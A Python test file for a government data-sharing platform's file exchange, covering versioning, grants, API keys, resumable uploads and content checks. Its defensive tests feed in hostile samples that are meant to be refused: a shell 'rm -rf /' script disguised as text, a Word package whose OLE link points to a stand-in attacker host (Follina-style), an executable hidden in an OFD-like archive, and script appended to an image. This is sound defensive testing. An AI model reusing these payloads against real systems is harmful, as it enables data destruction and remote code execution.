"""File exchange (EXC-2; issue 11 item 7): the police share files under a published entry of a file kind — every
version kept, each checked by its content (executables, archives, a kind the entry does not take are refused and
audited), large ones by a resumable upload with a checksum; the market, holding a grant over the file channel,
downloads them, recorded with the SHA-256.  Owner, colleague, outsider, auditor."""

from __future__ import annotations

import hashlib
import io
import zipfile
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings

from govshare.core.audit_codes import AuditCode
from govshare.core.models import AccessEvent, AuditEvent
from govshare.exchange.models import EntryFile, FileVersion
from govshare.sharing.actions import do_subscribe_entry
from tests.conftest import API, login
from tests.sharing_helpers import PDF, PNG

pytestmark = pytest.mark.django_db

PURPOSE = "工作参考"


@pytest.fixture
def shared(cat: Any) -> Any:
    """The police's published 电子文件 entry (shared by file); the market holds a grant over the file channel."""
    cat.entry = cat.published(name="户籍管理工作年报", format_class="file", format="PDF", share_methods=["file"])
    cat.grant = do_subscribe_entry(cat.org.market_specialist, cat.entry, purpose=PURPOSE, channel="file")
    return cat


def _share(client: Client, entry: Any, data: bytes, name: str = "年报.pdf", **form: Any) -> Any:
    return client.post(f"{API}/exchange/entries/{entry.pk}/files", {"file": SimpleUploadedFile(name, data), **form})


def test_a_provider_shares_a_file_and_a_new_version_and_every_version_is_kept(shared: Any) -> None:
    client = login(Client(), shared.org.police_specialist)
    first = _share(client, shared.entry, PDF, name="2024年报.pdf", note="初版")
    assert first.status_code == 201, first.content
    assert first.json()["kind"] == "pdf" and first.json()["sha256"] == hashlib.sha256(PDF).hexdigest()
    the_file = EntryFile.objects.get()
    second = _share(login(Client(), shared.org.police_admin), shared.entry, PDF + b"\n", name="x.pdf",
                    file_id=the_file.pk, note="更正")  # a colleague adds version 2 of the same file
    assert second.status_code == 201, second.content
    listed = client.get(f"{API}/exchange/entries/{shared.entry.pk}/files").json()
    assert [f["name"] for f in listed] == ["2024年报.pdf"]
    assert [v["number"] for v in listed[0]["versions"]] == [2, 1]
    assert FileVersion.objects.count() == 2
    assert AuditEvent.objects.filter(code=AuditCode.FILE_VERSION_ADDED).count() == 2


def test_the_consumer_downloads_under_its_file_grant_and_the_fetch_is_recorded(shared: Any) -> None:
    _share(login(Client(), shared.org.police_specialist), shared.entry, PDF)
    consumer = login(Client(), shared.org.market_specialist)
    listed = consumer.get(f"{API}/exchange/entries/{shared.entry.pk}/files?purpose={PURPOSE}")
    assert listed.status_code == 200, listed.content
    link = listed.json()[0]["versions"][0]["content"]
    got = consumer.get(link)
    assert got.status_code == 200 and b"".join(got.streaming_content) == PDF
    assert got["X-Content-SHA256"] == hashlib.sha256(PDF).hexdigest()
    logged = AccessEvent.objects.get(code=AuditCode.FILE_FETCHED)
    assert logged.detail["grant"] == shared.grant.number and logged.detail["sha256"] == hashlib.sha256(PDF).hexdigest()
    assert consumer.get(link.split("?")[0]).status_code == 403  # no purpose: the access check refuses
    tax = login(Client(), shared.org.tax_admin) if hasattr(shared.org, "tax_admin") else None
    if tax is not None:
        assert tax.get(link).status_code in (403, 404)
    auditor = login(Client(), shared.org.auditor)
    assert auditor.get(f"{API}/exchange/entries/{shared.entry.pk}/files").status_code == 200
    assert auditor.get(link.split("?")[0]).status_code == 404  # the list, not the content


def test_a_consuming_system_fetches_files_with_its_own_key_under_its_grant_and_the_log_names_it(shared: Any) -> None:
    """EXC-2/SHR: a consuming system reads shared files with its own key (``Bearer gsk_…``), as it reads the data
    API — under a grant for it (or for no system in particular) over the file channel, for the grant's purpose; the
    fetch is recorded under the system's name; another purpose, or a wrong key, gets nothing."""
    from govshare.sharing.actions import do_register_system

    _share(login(Client(), shared.org.police_specialist), shared.entry, PDF)
    system = do_register_system(shared.org.market_admin, name="市场监管档案系统", code="SJ-DA")
    grant = shared.grant  # the department's grant over the file channel, for no system in particular
    issued = login(Client(), shared.org.market_admin).post(f"{API}/sharing/systems/{system.pk}/keys",
                                                           {"name": "档案接口", "days": 30},
                                                           content_type="application/json")
    assert issued.status_code == 201, issued.content
    bearer = Client(HTTP_AUTHORIZATION=f"Bearer {issued.json()['secret']}")
    listed = bearer.get(f"{API}/exchange/entries/{shared.entry.pk}/files?purpose={PURPOSE}")
    assert listed.status_code == 200, listed.content
    link = listed.json()[0]["versions"][0]["content"]
    got = bearer.get(link)
    assert got.status_code == 200 and b"".join(got.streaming_content) == PDF
    logged = AccessEvent.objects.filter(code=AuditCode.FILE_FETCHED).latest("id")
    assert logged.actor_id is None and logged.actor_username == "system:SJ-DA"
    assert logged.detail["grant"] == grant.number and logged.detail["system"] == "SJ-DA"
    assert bearer.get(link.split("?")[0] + "?purpose=其他").status_code == 403
    assert bearer.get(f"{API}/exchange/entries/{shared.entry.pk}/files?purpose=其他").status_code == 403
    assert Client(HTTP_AUTHORIZATION="Bearer gsk_nothing_here").get(link).status_code == 401
    # a key is for reading: sharing a file with it is refused like any call outside the channels
    assert bearer.post(f"{API}/exchange/entries/{shared.entry.pk}/files",
                       {"file": SimpleUploadedFile("x.pdf", PDF)}).status_code in (401, 403)


@pytest.mark.parametrize("data, name, code", [
    (b"MZ\x90\x00" + b"\x00" * 200, "年报.pdf", "disguised_file"),
    (None, "附件.zip", "archive_not_document"),
    (b"#!/bin/sh\nrm -rf /\n", "说明.txt", "disguised_file"),
    (b"\x00\x01\x02binary", "数据.txt", "binary_text"),
])
def test_hostile_or_wrong_files_are_refused_by_content_and_audited(shared: Any, data: bytes | None, name: str,
                                                                    code: str) -> None:
    if data is None:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("a.txt", "x")
        data = out.getvalue()
    answer = _share(login(Client(), shared.org.police_specialist), shared.entry, data, name=name)
    assert answer.status_code == 400 and answer.json()["error"]["code"] == code, answer.content
    assert not FileVersion.objects.exists()
    assert AuditEvent.objects.get(code=AuditCode.FILE_REFUSED).detail["reason"] == code


def test_an_image_entry_takes_images_only(cat: Any) -> None:
    entry = cat.published(name="辖区警务地图", format_class="image", format="PNG", share_methods=["file"])
    client = login(Client(), cat.org.police_specialist)
    assert _share(client, entry, PNG, name="地图.png").status_code == 201
    refused = _share(client, entry, PDF, name="地图.png")
    assert refused.status_code == 400 and refused.json()["error"]["code"] == "wrong_file_type"


def test_a_table_entry_shares_no_files_and_others_cannot_share(shared: Any, cat: Any) -> None:
    table = cat.published(name="户籍人口基本信息（库表）")
    client = login(Client(), shared.org.police_specialist)
    assert _share(client, table, PDF).json()["error"]["code"] == "entry_not_files"
    assert _share(login(Client(), shared.org.market_specialist), shared.entry, PDF).status_code == 404
    assert _share(login(Client(), shared.org.auditor), shared.entry, PDF).status_code == 403


def test_a_large_file_arrives_in_pieces_resumes_at_the_servers_offset_and_is_checked(shared: Any) -> None:
    client = login(Client(), shared.org.police_specialist)
    data = PDF
    started = client.post(f"{API}/exchange/entries/{shared.entry.pk}/file-uploads", {
        "file_name": "年报（大）.pdf", "size": len(data), "sha256": hashlib.sha256(data).hexdigest()},
        content_type="application/json")
    assert started.status_code == 201, started.content
    token = started.json()["id"]
    half = len(data) // 2
    first = client.patch(f"{API}/exchange/file-uploads/{token}", data[:half],
                         content_type="application/offset+octet-stream", HTTP_UPLOAD_OFFSET="0")
    assert first.status_code == 200 and first.json()["offset"] == half
    again = client.patch(f"{API}/exchange/file-uploads/{token}", data[:half],
                         content_type="application/offset+octet-stream", HTTP_UPLOAD_OFFSET="0")  # sent twice
    assert again.status_code == 409 and again.json()["error"]["code"] == "wrong_offset"
    assert client.get(f"{API}/exchange/file-uploads/{token}").json()["offset"] == half  # where to go on from
    last = client.patch(f"{API}/exchange/file-uploads/{token}", data[half:],
                        content_type="application/offset+octet-stream", HTTP_UPLOAD_OFFSET=str(half))
    assert last.status_code == 200 and last.json()["status"] == "done" and last.json()["version"] == 1
    assert FileVersion.objects.get().sha256 == hashlib.sha256(data).hexdigest()
    other = login(Client(), shared.org.police_admin)
    assert other.get(f"{API}/exchange/file-uploads/{token}").status_code == 404  # the uploader's own


def test_a_damaged_upload_is_refused_by_its_checksum(shared: Any) -> None:
    client = login(Client(), shared.org.police_specialist)
    token = client.post(f"{API}/exchange/entries/{shared.entry.pk}/file-uploads", {
        "file_name": "年报.pdf", "size": len(PDF), "sha256": "0" * 64}, content_type="application/json").json()["id"]
    answer = client.patch(f"{API}/exchange/file-uploads/{token}", PDF, content_type="application/offset+octet-stream",
                          HTTP_UPLOAD_OFFSET="0")
    assert answer.status_code == 400 and answer.json()["error"]["code"] == "sha256_mismatch"
    assert client.get(f"{API}/exchange/file-uploads/{token}").json()["status"] == "refused"
    assert not FileVersion.objects.exists()


@override_settings(GOVSHARE_FILE_MAX_MB=1024)
def test_a_two_gigabyte_file_is_refused_before_any_byte_is_sent(shared: Any) -> None:
    answer = login(Client(), shared.org.police_specialist).post(
        f"{API}/exchange/entries/{shared.entry.pk}/file-uploads",
        {"file_name": "录像.mp4", "size": 2 * 1024 ** 3}, content_type="application/json")
    assert answer.status_code == 400 and answer.json()["error"]["code"] == "file_too_large"


def test_the_provider_page_shares_files_and_the_grant_page_offers_them_to_the_consumer(shared: Any) -> None:
    provider = login(Client(), shared.org.police_specialist)
    page = provider.get("/exchange/files/").content.decode()
    assert f'data-entry="{shared.entry.pk}"' in page and "data-share-form" in page
    posted = provider.post("/exchange/files/", {"entry": shared.entry.pk, "name": "2024年报", "note": "初版",
                                                "file": SimpleUploadedFile("a.pdf", PDF)})
    assert posted.status_code == 302 and FileVersion.objects.get().file.name == "2024年报"
    refused = provider.post("/exchange/files/", {"entry": shared.entry.pk, "file": SimpleUploadedFile("b.pdf", b"MZ!")},
                            follow=True).content.decode()
    assert FileVersion.objects.count() == 1 and ("可执行" in refused or "executable" in refused)
    grant_page = login(Client(), shared.org.market_specialist).get(f"/sharing/grants/{shared.grant.pk}/")
    html = grant_page.content.decode()
    assert 'data-panel="files"' in html and "purpose=" in html and 'data-panel="download"' not in html


def test_the_public_cannot_open_the_shared_files_or_downloads_pages_of_departments(shared: Any) -> None:
    """QA walk-through of the 21st session: a citizen opened the (empty) pages that speak of "your department"."""
    citizen = login(Client(), shared.org.citizen)
    assert citizen.get("/exchange/files/").status_code == 403
    assert citizen.post("/exchange/files/", {"entry": shared.entry.pk}).status_code == 403
    assert citizen.get("/data/downloads/").status_code == 403
    assert login(Client(), shared.org.market_specialist).get("/data/downloads/").status_code == 200


# -- review of the 10th session: each finding, fixed --------------------------------------------------------------

_CT = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
       b'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
       b'+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>')
_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
         b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         b'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
_DOC = (b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
        b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>hi</w:t></w:r></w:p></w:body></w:document>')


def _docx(document_rels: bytes | None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", _CT)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("word/document.xml", _DOC)
        if document_rels is not None:
            archive.writestr("word/_rels/document.xml.rels", document_rels)
    return out.getvalue()


def test_a_word_file_with_an_external_ole_object_or_template_is_refused_and_a_plain_one_taken(shared: Any) -> None:
    """Review H1: relationships to outside the package (the "Follina" OLE link, a remote template) are refused;
    an external hyperlink is a link, not content, and passes."""
    outside = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
               b'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
               b'relationships/oleObject" Target="http://attacker.example/x.html!" TargetMode="External"/>'
               b'</Relationships>')
    link = outside.replace(b"relationships/oleObject", b"relationships/hyperlink")
    client = login(Client(), shared.org.police_specialist)
    refused = _share(client, shared.entry, _docx(outside), name="年报.docx")
    assert refused.status_code == 400 and refused.json()["error"]["code"] == "external_links"
    assert _share(client, shared.entry, _docx(link), name="年报.docx").json()["kind"] == "docx"


def test_an_archive_with_an_ofd_xml_member_is_not_an_ofd_document(shared: Any) -> None:
    """Review H1: any ZIP with a member named OFD.xml was taken as OFD, its other members unchecked."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("OFD.xml", b'<?xml version="1.0"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>')
        archive.writestr("tools/setup.exe", b"MZ" + b"\x00" * 500)
    answer = _share(login(Client(), shared.org.police_specialist), shared.entry, out.getvalue(), name="年报.ofd")
    assert answer.status_code == 400 and answer.json()["error"]["code"] == "archive_not_document"


@pytest.mark.parametrize("tail", [b"PK\x03\x04" + b"\x00" * 40, b"<html><script>alert(1)</script></html>"])
def test_an_image_with_something_after_the_picture_is_refused(cat: Any, tail: bytes) -> None:
    """Review M2: images are decoded whole by the letters' check (nothing after the picture, no page, no archive)."""
    entry = cat.published(name="辖区警务地图", format_class="image", format="PNG", share_methods=["file"])
    answer = _share(login(Client(), cat.org.police_specialist), entry, PNG + tail, name="地图.png")
    assert answer.status_code == 400 and not FileVersion.objects.exists()


def test_text_is_checked_whole_not_only_its_first_64_kilobytes(shared: Any) -> None:
    """Review M2: NUL bytes and an executable after 64 KiB of letters."""
    data = b"a" * (64 * 1024) + b"\x00\x00MZ" + b"\x00" * 64
    answer = _share(login(Client(), shared.org.police_specialist), shared.entry, data, name="说明.txt")
    assert answer.status_code == 400 and answer.json()["error"]["code"] == "binary_text"


def test_an_auditor_of_the_providing_department_reads_the_list_but_not_the_content(shared: Any) -> None:
    """Review M5: an auditor in the providing department was taken for the provider's staff."""
    from govshare.catalog.models import CatalogEntry

    _share(login(Client(), shared.org.police_specialist), shared.entry, PDF)
    CatalogEntry.objects.filter(pk=shared.entry.pk).update(provider_id=shared.org.auditor.department_id)
    auditor = login(Client(), shared.org.auditor)
    assert auditor.get(f"{API}/exchange/entries/{shared.entry.pk}/files").status_code == 200
    link = f"{API}/exchange/files/{EntryFile.objects.get().pk}/versions/1/content"
    assert auditor.get(link).status_code == 404


def test_a_resumable_upload_is_not_completed_by_someone_who_lost_the_right_to_share(shared: Any) -> None:
    """Review L14: the last piece checks the uploader's right again (here: the entry withdrawn meanwhile)."""
    from govshare.catalog.models import CatalogEntry

    client = login(Client(), shared.org.police_specialist)
    token = client.post(f"{API}/exchange/entries/{shared.entry.pk}/file-uploads",
                        {"file_name": "年报.pdf", "size": len(PDF)}, content_type="application/json").json()["id"]
    CatalogEntry.objects.filter(pk=shared.entry.pk).update(status=CatalogEntry.Status.WITHDRAWN)
    answer = client.patch(f"{API}/exchange/file-uploads/{token}", PDF, content_type="application/offset+octet-stream",
                          HTTP_UPLOAD_OFFSET="0")
    assert answer.status_code == 400 and answer.json()["error"]["code"] == "entry_not_published"
    assert not FileVersion.objects.exists()


def test_a_form_id_that_is_not_ascii_digits_is_not_found_rather_than_a_server_error(shared: Any) -> None:
    """Review L13: "²" passes str.isdigit and failed int()."""
    client = login(Client(), shared.org.police_specialist)
    answer = client.post("/exchange/files/", {"entry": "²", "file": SimpleUploadedFile("a.pdf", PDF)})
    assert answer.status_code == 404
